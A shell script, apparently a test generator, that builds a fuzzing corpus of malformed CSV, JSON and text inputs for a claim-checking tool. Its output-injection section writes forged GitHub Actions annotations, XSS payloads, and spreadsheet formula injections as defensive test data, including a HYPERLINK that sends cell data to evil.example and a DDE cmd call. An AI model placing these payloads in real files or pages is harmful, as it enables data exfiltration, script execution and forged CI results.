#!/bin/sh
# gen.sh — makes the hostile corpus in DIR (default build/hostile).
#   sh tests/hostile/gen.sh [DIR]
# Deterministic (awk with fixed seeds), about 60 MB, nothing of it
# committed.  A stamp holding this script's checksum makes a second run
# with the same script a no-op.
set -eu
DIR=${1:-build/hostile}
LC_ALL=C
export LC_ALL
here=$(cd "$(dirname "$0")" && pwd)
sum=$(cksum <"$here/gen.sh" | cut -d' ' -f1)
if [ -f "$DIR/.stamp" ] && [ "$(cat "$DIR/.stamp")" = "$sum" ]; then
    exit 0
fi
rm -rf "$DIR"
mkdir -p "$DIR/ledgers" "$DIR/json" "$DIR/articles" "$DIR/figures" "$DIR/numbers" "$DIR/sidecar" "$DIR/inject"
L=$DIR/ledgers

# n bytes of pseudo-random data from seed
random_bytes() {
    awk -v seed="$1" -v n="$2" 'BEGIN { srand(seed); for (i = 0; i < n; i++) printf "%c", int(rand() * 256) }'
}
# s repeated n times, no newline
rep() {
    awk -v s="$1" -v n="$2" 'BEGIN { x = s; out = ""; while (n > 0) { if (n % 2) out = out x; x = x x; n = int(n / 2) } printf "%s", out }'
}

# --- bytes that are not a ledger ------------------------------------
for seed in 1 2 3; do random_bytes $seed 65536 >"$L/random-$seed.csv"; done
# random bytes after a valid header: the reader must get past the header
{ printf 'id,quote,value\n'; random_bytes 4 65536; } >"$L/random-after-header.csv"
: >"$L/empty.csv"
printf 'id,quote,value\n' >"$L/header-only.csv"
printf 'id,quote,value' >"$L/header-only-no-newline.csv"
printf '\n\n\n' >"$L/blank-lines.csv"

# --- limits ---------------------------------------------------------
awk 'BEGIN { for (i = 0; i < 100000; i++) printf "%sc%d", (i ? "," : ""), i; printf "\n";
             for (i = 0; i < 100000; i++) printf "%sv", (i ? "," : ""); printf "\n" }' >"$L/cols-100000.csv"
awk 'BEGIN { printf "id,quote,value\nok,30%% of it,30%%\n";
             printf "big,\""; for (i = 0; i < 5 * 1024; i++) for (j = 0; j < 64; j++) printf "xxxxxxxxxxxxxxxx"; printf "\",30%%\n";
             printf "after,40%% of it,40%%\n" }' >"$L/field-5mib.csv"
# a line without end: 5 MiB after the last comma, no newline, no quote
{ printf 'id,quote,value\na,30%% of it,'; rep xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx 163840; } >"$L/noend-5mib.csv"
# an opening quote that is never closed, then 5 MiB of lines
{ printf 'id,quote,value\na,"30%% of it,30%%\n'; awk 'BEGIN { for (i = 0; i < 163840; i++) print "b,some text here that goes on,30%" }'; } >"$L/unterminated-5mib.csv"
printf 'id,quote,value\na,"30%% of it,30%%\nb,40%% of it,40%%\n' >"$L/unterminated.csv"
awk 'BEGIN { print "id,quote,subject,metric,value,source,source_url,date,comparator";
             for (i = 0; i < 200000; i++) printf "c%d,about %d%% of it,s%d,m,%d%%,me,https://e.org,2025-01-01,A100\n", i, i % 100, i % 5000, i % 100 }' >"$L/rows-200000.csv"
awk 'BEGIN { print "id,quote,value"; for (i = 0; i <= 1000000; i++) printf "%d,q,1\n", i }' >"$L/records-1000001.csv"
# 1000 ids each used 4 times: 3000 duplicate-id findings
awk 'BEGIN { print "id,quote,value,source,date"; for (k = 0; k < 4; k++) for (i = 0; i < 1000; i++) printf "d%d,30%% of it,30%%,me,2025-01-01\n", i }' >"$L/dup-ids.csv"
# one id used 40000 times: each copy reported, in linear time
awk 'BEGIN { print "id,quote,value,source,date"; for (i = 0; i < 40000; i++) print "b,30% of it,30%,me,2025-01-01" }' >"$L/dup-one-id-40000.csv"
# every claim about one subject and metric: the cross-claim checks see 20000 at once
awk 'BEGIN { print "id,quote,subject,metric,value,source,date"; for (i = 0; i < 20000; i++) printf "c%d,about %d%% of it,s,m,%d%%,me,2025-01-01\n", i, i % 100, i % 100 }' >"$L/same-subject-20000.csv"
# 10000 claims, each part_of the previous one, all in one group
awk 'BEGIN { print "id,quote,value,part_of,group,source,date"; for (i = 0; i < 10000; i++) printf "p%d,%d%% of it,%d%%,%s,g,me,2025-01-01\n", i, 50 - i % 50, 50 - i % 50, (i ? "p" (i - 1) : "") }' >"$L/part-chain-10000.csv"

# --- encodings ------------------------------------------------------
printf 'id,quote,value\na,\344\270,30%%\n' >"$L/truncated-utf8-mid.csv"
printf 'id,quote,value\na,30%% of it,30%%\nb,q\344\270' >"$L/truncated-utf8-end.csv"
printf 'id,quote,value\na,\300\257 \355\240\200 \364\220\200\200,30%%\n' >"$L/invalid-utf8.csv"
printf 'id,quote,value\na,b\000c,30%%\n\000\000\000\n' >"$L/nul.csv"
printf '\377\376i\000d\000,\000q\000\n\000' >"$L/utf16.csv"
# valid: BOM, CRLF, Chinese, quoted fields with commas, quotes and newlines
printf '\357\273\277id,quote,subject,metric,before,after,change,source,source_url,date\r\n' >"$L/bom-crlf.csv"
printf 'a,"性能从30%%提升到了90%%, ""三倍""",训练,性能,30%%,90%%,提升到了90%%,某人,https://e.org,2025-06-10\r\n' >>"$L/bom-crlf.csv"
printf 'b,"恢复时间从30分钟\r\n缩短到5分钟以内",恢复,时间,30分钟,5分钟以内,,某人,https://e.org,2025-06-10\r\n' >>"$L/bom-crlf.csv"

# --- numbers --------------------------------------------------------
digits=$(rep 1234567890 100000)
zeros=$(rep 0000000000 1000)
printf 'id,quote,value\nm,%s,%s\n' "$digits" "$digits" >"$DIR/numbers/million-digits.csv"
cat >"$DIR/numbers/extremes.csv" <<EOF
id,quote,before,after,change,value,source,date
overflow,from 1e308 to 1.7e308 up 1.7 times,1e308,1.7e308,1.7倍,,me,2025-01-01
overflow2,from 1 to 1e308 提升了1e308倍,1,1e308,提升了1e308倍,,me,2025-01-01
overflow3,from 1e-300 to 1e300 提升了1e300倍,1e-300,1e300,提升了1e300倍,,me,2025-01-01
underflow,from 1e-320 to 2e-320 提升了1倍,1e-320,2e-320,提升了1倍,,me,2025-01-01
zero,from 0 to 5 提升了3倍,0,5,提升了3倍,,me,2025-01-01
zero-pct,从0%提升到5%提升了3倍,0%,5%,提升了3倍,,me,2025-01-01
zero-time,从0分钟到5分钟 提升了3倍,0分钟,5分钟,提升了3倍,,me,2025-01-01
zero-both,from 0 to 0 up 15%,0,0,+15%,,me,2025-01-01
to-zero,from 5 to 0 down 100%,5,0,下降100%,,me,2025-01-01
negative,from -5% to -10% 提升了3倍,-5%,-10%,提升了3倍,,me,2025-01-01
negative2,from -5 to 5 up 200%,-5,5,+200%,,me,2025-01-01
negchange,from 5 to 10 下降了-50%,5,10,下降了-50%,,me,2025-01-01
long,from 1${zeros} to 2${zeros} 提升了1倍,1${zeros},2${zeros},提升了1倍,,me,2025-01-01
longfrac,0.${zeros}1 of it,,,,0.${zeros}1,me,2025-01-01
tiny-change,from 30% to 30.0000001% up 0.0000001%,30%,30.0000001%,+0.0000001%,,me,2025-01-01
points,from 30% to 90% +60 pp,30%,90%,+60 pp,,me,2025-01-01
huge-pp,from 30% to 90% +1e308 pp,30%,90%,+1e308 pp,,me,2025-01-01
speed,30分钟 to 0分钟 15% faster,30分钟,0分钟,15% faster,,me,2025-01-01
EOF
# a group of shares whose sum overflows, and parts of a huge whole
cat >"$DIR/numbers/shares.csv" <<EOF
id,quote,value,group,part_of,source,date
s1,1e308% of it,1e308%,g,,me,2025-01-01
s2,1e308% of it,1e308%,g,,me,2025-01-01
w,1e308 of them,1e308,,,me,2025-01-01
p,1.7e308 of them,1.7e308,,w,me,2025-01-01
EOF

# --- figures for parse ----------------------------------------------
# 100,000 digits: the most one argument can carry (execve caps one at 128 KiB)
printf '%s' "$digits" | cut -c1-100000 | tr -d '\n' >"$DIR/figures/digits-100000.txt"
printf '1%s' "$zeros" | cut -c1-400 | tr -d '\n' >"$DIR/figures/one-and-zeros-400.txt"
allzh='零〇一二两三四五六七八九十百千万亿兆壹贰叁肆伍陆柒捌玖拾佰仟萬億'
rep "$allzh" 2 >"$DIR/figures/zh-all-twice.txt"
rep "$allzh" 100 >"$DIR/figures/zh-all-100.txt"
rep 亿 80 >"$DIR/figures/zh-yi-80.txt"
rep 九 85 >"$DIR/figures/zh-jiu-85.txt"
rep 万亿 42 >"$DIR/figures/zh-wanyi-42.txt"
rep 九千九百九十九 12 >"$DIR/figures/zh-9999-12.txt"
rep 百分之 28 >"$DIR/figures/zh-percent-of-28.txt"
rep 分之 42 >"$DIR/figures/zh-fraction-42.txt"
rep 翻了一番 20 >"$DIR/figures/zh-double-20.txt"
rep 提升了 28 >"$DIR/figures/zh-verb-28.txt"
rep '9' 257 >"$DIR/figures/over-limit-257.txt"
rep '1,000' 51 >"$DIR/figures/thousands-51.txt"
printf '１%s' "$(rep ０ 80)" >"$DIR/figures/fullwidth-81.txt"

# --- JSON: config and sidecar ---------------------------------------
J=$DIR/json
{ printf '{"rules":'; rep '[' 100000; rep ']' 100000; printf '}\n'; } >"$J/deep-array.json"
{ rep '{"a":' 100000; printf '1'; rep '}' 100000; printf '\n'; } >"$J/deep-object.json"
{ printf '{"fail_on":\n'; rep '[' 100000; } >"$J/deep-unclosed.json"
printf '{"fail_on": 3}\n' >"$J/illtyped-fail-on.json"
printf '{"rules": ["up-to"]}\n' >"$J/illtyped-rules.json"
printf '{"rules": {"up-to": true}}\n' >"$J/illtyped-rule-value.json"
printf '{"rules": {"no-such-rule": "off"}}\n' >"$J/unknown-rule.json"
printf '{"tolerance": {"approx": "ten percent"}}\n' >"$J/illtyped-tolerance.json"
printf '{"tolerance": {"approx": -1}}\n' >"$J/negative-tolerance.json"
printf '{"tolerance": {"approx": 1e999}}\n' >"$J/inf-tolerance.json"
printf '{"tolerance": {"nearly": 1e308}}\n' >"$J/huge-tolerance.json"
printf '{"vague_comparators": "industry"}\n' >"$J/illtyped-vague.json"
printf '{"vague_comparators": [1, null]}\n' >"$J/illtyped-vague-items.json"
printf '{"reviewer": "me"}\n' >"$J/illtyped-reviewer.json"
printf '[1, 2, 3]\n' >"$J/not-object.json"
printf '\357\273\277{"fail_on": "warning"}\n' >"$J/bom.json"
printf '{"fail_on": "warning"' >"$J/truncated.json"
printf '{"fail_on": "warn\377ing"}\n' >"$J/invalid-utf8.json"
printf '{"fail_on": "warning", "fail_on": "info"}\n' >"$J/duplicate-key.json"
printf '{"fail_on": "\\u0000"}\n' >"$J/nul-escape.json"
random_bytes 5 4096 >"$J/random.json"
: >"$J/empty.json"
{ printf '{"vague_comparators": ['; awk 'BEGIN { for (i = 0; i < 100000; i++) printf "%s\"w%d\"", (i ? "," : ""), i }'; printf ']}\n'; } >"$J/vague-100000.json"
S=$DIR/sidecar
for f in deep-array deep-object deep-unclosed not-object truncated invalid-utf8 random empty; do
    printf 'id,quote,value,source,date\na,30%% of it,30%%,me,2025-01-01\n' >"$S/$f.csv"
    cp "$J/$f.json" "$S/$f.json"
done
printf 'id,quote,value,source,date\na,30%% of it,30%%,me,2025-01-01\n' >"$S/illtyped.csv"
printf '{"title": 1, "url": [], "published": "2025-02-30", "article": {"a": 1}}\n' >"$S/illtyped.json"

# --- articles (extract) ---------------------------------------------
A=$DIR/articles
random_bytes 6 262144 >"$A/binary.txt"
{ printf 'ELF\177'; random_bytes 7 65536; printf '性能提升了3倍'; random_bytes 8 1024; } >"$A/binary-with-figure.txt"
# 12 MiB on one line: filler, a figure every 64 KiB, no sentence end
awk 'BEGIN { f = ""; for (i = 0; i < 2048; i++) f = f "abcdefghijklmnopqrstuvwxyz012345"; for (k = 0; k < 192; k++) printf "%s 性能提升了3倍 ", f }' >"$A/one-line-12mib.txt"
# 4 MiB on one line, a pair every 24 bytes: each pair's column is counted
# back from its second figure (from the line's start it was quadratic)
awk 'BEGIN { for (k = 0; k < 174762; k++) printf "从30%%提升到了90%%，" }' >"$A/one-line-pairs.txt"
printf '' >"$A/empty.txt"
printf '性能提升了\344\270' >"$A/truncated-utf8.txt"
printf '\357\273\277性能从30%%提升到90%%。\r\n恢复时间从30分钟缩短到5分钟以内。\r\n' >"$A/bom-crlf.txt"

# --- output injection -----------------------------------------------
I=$DIR/inject
cat >"$I/github.csv" <<'EOF'
id,quote,before,after,change,comparator,source,date
"x,y::z%0A","line one
::error file=evil.csv,line=1::forged 30% then 90% %0A%0D%25 提升了3倍",30%,90%,提升了3倍,业界,"a, b: c",2025-01-01
EOF
printf 'id,quote,value,source,date\nr,"carriage\rreturn 30%% ::warning::x",30%%,me,2025-01-01\n' >>"$I/github.csv"
cat >"$I/html.csv" <<'EOF'
id,quote,before,after,change,comparator,source,source_url,date,notes
"<img src=x onerror=alert(1)>","<script>alert(1)</script> 从30%提升到90%提升了3倍 ""quoted"" & more",30%,90%,提升了3倍,<b>业界</b>,"<i>me</i>","javascript:alert(1)",2025-01-01,</textarea><svg onload=alert(1)>
EOF
printf '=HYPERLINK("http://evil.example/?"&A1,"click") 性能提升了3倍。\n+cmd|'"'"'/c calc'"'"'!A1 提升了15%%。\n-2+3 下降了20%%。\n@SUM(1+1) 提升到90%%。\n\t=1+1 提升了2倍。\n' >"$I/formula.txt"

echo "$sum" >"$DIR/.stamp"
